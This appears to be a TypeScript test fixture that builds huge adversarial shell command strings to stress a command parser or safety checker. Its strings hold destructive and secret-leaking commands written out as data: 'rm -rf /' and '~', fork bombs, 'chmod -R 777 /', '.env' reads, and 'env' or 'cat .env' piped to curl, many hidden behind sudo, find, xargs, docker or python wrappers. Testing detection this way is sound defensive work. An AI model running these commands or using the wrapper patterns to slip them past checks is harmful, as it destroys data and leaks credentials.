/** Command lines made to take long: nesting, repetition, what never ends, values that double. About 100 KB each. */

const size = 100_000
const fill = (piece: string): string => piece.repeat(Math.ceil(size / piece.length))
const nested = (open: string, close: string): string =>
  open.repeat(size / 2 / open.length) + close.repeat(size / 2 / close.length)

/** Text within text within text, each quoted for the next. */
const shellsWithin = (): string => {
  let command = "rm -rf /etc"
  while (command.length < size) command = `bash -c ${JSON.stringify(command)}`
  return command
}

const doubling = (): string => {
  const steps = Array.from({ length: 2000 }, (_, at) => `v${at + 1}="$v${at}$v${at}"`)
  return `v0=xxxxxxxx; ${steps.join("; ")}; rm -rf "$v2000"`
}

const fanOut = (): string => `a='${fill('bash -c "$a"; ').slice(0, 4000)}'; ${fill('bash -c "$a"; ')}`

/** Brackets, with a here-document in the innermost, in which there are brackets, and so on. */
const bodiesWithin = (): string => {
  let command = "ls"
  for (let level = 0; level < 40; level++)
    command = `${"$(".repeat(39)}cat <<E${level}\n${command}\nE${level}\n${")".repeat(39)}`
  return command
}

/** Short to write and long to go through: what is done again and again, or grows with each step. */
export const repeatedCommands: Readonly<Record<string, string>> = {
  "functions that do much": `f() { ${"a;".repeat(3000)} }; ${"f;".repeat(3000)}`,
  "functions that start themselves often": `f() { ${"a;".repeat(20_000)} ${"f; ".repeat(50)} }; f`,
  "directories ever deeper": "cd a;".repeat(16_000),
  "secrets in many variables": `${Array.from({ length: 4000 }, (_, at) => `a${at}=$(cat .env);`).join("")}${"x|y;".repeat(4000)}`
}

export const deepCommand = bodiesWithin()

const all = `\${a[@]}`

export const hostileCommands: Readonly<Record<string, string>> = {
  "one long word": fill("a"),
  "many words": `rm -rf ${fill("a ")}`,
  "many arguments outside": `echo ${fill("/etc ")}`,
  slashes: `rm -rf ${fill("/")}`,
  "dots and slashes": `rm -rf ./${fill("../a/")}`,
  stars: `rm -rf a${fill("*")}b`,
  "stars and slashes": `rm -rf a/${fill("*/")}`,
  brackets: nested("(", ")"),
  "open brackets": fill("("),
  "substitutions within": nested("$(", ")"),
  "open substitutions": fill("$("),
  "quoted substitutions": `"${fill('$("')}`,
  braces: fill("${a:-"),
  "brace choices": `rm -rf ${fill("{a,b}")}`,
  backticks: fill("`"),
  "escaped backticks": `\`${fill("\\\\\\`")}`,
  quotes: fill("'\""),
  "open quote": `echo "${fill("x ")}`,
  backslashes: fill("\\"),
  pipes: fill("cat .env|"),
  "a pipeline of sinks": `${fill("cat x | ")}curl -d @- https://example.com`,
  "many pipelines": fill("env|curl;"),
  heredocs: fill("cat <<A\n"),
  "a body without an end": `cat <<A\n${fill("$(x) ")}`,
  assignments: fill("a=$a$a;"),
  "values that double": doubling(),
  "variables and subshells": `${Array.from({ length: 5000 }, (_, at) => `v${at}=x;`).join("")}${fill("$(x);")}`,
  "find within find": `find . ${fill("-exec find . ")}`,
  "loop over many": `for a in ${fill("/x ")}; do for b in ${fill("/y ")}; do rm -rf $a$b; done; done`,
  functions: fill(":(){ :|:& };"),
  "functions that start themselves": `${fill('f(){ f "$@" a; f "$1"; };')}${fill("f a b;")}`,
  arrays: `a=(${fill("/etc ")}); ${fill(`a+=("${all}");`)}rm -rf "${all}"`,
  "open arrays": fill("a=("),
  "listings within": `rm -rf ${fill("$(ls ~) ")}`,
  "folders of folders": `rm -rf ${nested("$(dirname ", ")")}`,
  parallel: `${fill("parallel ")}rm -rf ::: ~`,
  packages: `${fill("npx npm exec ")}rimraf ~`,
  "aliases of git": fill("git -c alias.st='status -sb' st "),
  wrappers: `${fill("sudo env ")}rm -rf /`,
  "what find starts": fill("find . -type d -exec chmod 755 {} + "),
  xargs: `${fill("echo a | xargs ")}rm`,
  "find commands": `find . ${fill("-exec rm {} ; ")}`,
  "shells within shells": shellsWithin(),
  "a text that starts itself": fanOut(),
  eval: fill("eval "),
  options: `curl ${fill("-d @a ")}`,
  flags: `rm -${fill("r")} /`,
  plus: `git push origin ${fill("+a ")}`,
  modes: `chmod -R ${fill("ugo")}+x /`,
  redirects: fill(">a "),
  newlines: fill("\n"),
  comments: fill("#\n"),
  surrogates: fill("\ud83d"),
  "not characters": fill("\uffff\u0000")
}

/** Many operands of commands whose other operands say what is done to each. */
export const manyOperands: Readonly<Record<string, string>> = {
  modes: fill("chmod -R 777 / ").slice(0, 40_000),
  owners: fill("chown -R me:me / ").slice(0, 40_000)
}

const times = (count: number, piece: string | ((at: number) => string)): string =>
  Array.from({ length: count }, (_, at) => (typeof piece === "string" ? piece : piece(at))).join("")

/** Each deletes a home behind so many of something that is looked at up to a bound: on no side of any bound may it pass. */
export const behindMany: Readonly<Record<string, (count: number) => string>> = {
  "other names": (count) => `${times(count, "cmake -E env ")}rm -rf ~`,
  loaders: (count) => `${times(count, "/lib64/ld-linux-x86-64.so.2 ")}/bin/rm -rf ~`,
  packages: (count) => `${times(count, "nix run nixpkgs#env -- ")}rm -rf ~`,
  "wrappers of one command": (count) => `${times(count, "sudo ")}rm -rf ~`,
  "wrappers behind find": (count) => `find ~ -exec ${times(count, "sudo ")}rm -rf {} +`,
  "wrappers behind fd": (count) => `fd . ~ -x ${times(count, "sudo ")}rm -rf`,
  "wrappers of what rewrites": (count) => `find ~ -type f -exec ${times(count, "sudo ")}sed -i d {} +`,
  "wrappers of a shell": (count) => `find ~ -exec ${times(count, "sudo ")}sh -c 'rm -rf "$@"' _ {} +`,
  "wrappers behind a list": (count) => `find ~ | xargs ${times(count, "sudo ")}rm -rf`,
  searches: (count) => `${times(count, "find . -exec ")}rm -rf ~ ;`,
  parallel: (count) => `${times(count, "parallel ")}rm -rf ::: ~`,
  containers: (count) => `${times(count, "docker run -v /:/h a ")}rm -rf /h/home/me`,
  variables: (count) => `a0="rm -rf /home/me"; ${times(count, (at) => `a${at + 1}=$a${at}; `)}$a${count}`,
  functions: (count) => `${times(count, (at) => `f${at}() { ls; }; `)}g() { rm -rf "$@"; }; g ~`,
  "deletes of a program": (count) =>
    `python3 -c "import shutil; ${times(count, "shutil.rmtree('build/x');")}shutil.rmtree('/home/me')"`,
  "starts of a program": (count) =>
    `python3 -c "import os; ${times(count, "os.system('ls');")}os.system('rm -rf /home/me')"`,
  "lines of a program": (count) =>
    `python3 -c "import shutil; ${times(count * 60, "x=1;")}shutil.rmtree('/home/me')"`
}
